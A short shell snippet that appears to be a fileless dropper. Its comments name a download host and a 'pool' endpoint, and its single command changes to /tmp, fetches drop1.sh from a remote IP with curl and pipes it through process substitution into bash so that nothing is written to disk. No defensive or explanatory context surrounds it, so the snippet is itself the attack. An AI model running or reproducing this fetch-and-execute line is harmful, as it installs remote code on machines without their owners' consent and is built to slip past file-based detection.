# bash runs what curl fetches through a process substitution: on no standard input, in no file
#http 203.0.113.50:8000
#pool 198.51.100.31:443:drop
cd /tmp; bash <(curl -fsSL http://203.0.113.50:8000/drop1.sh); sleep 20
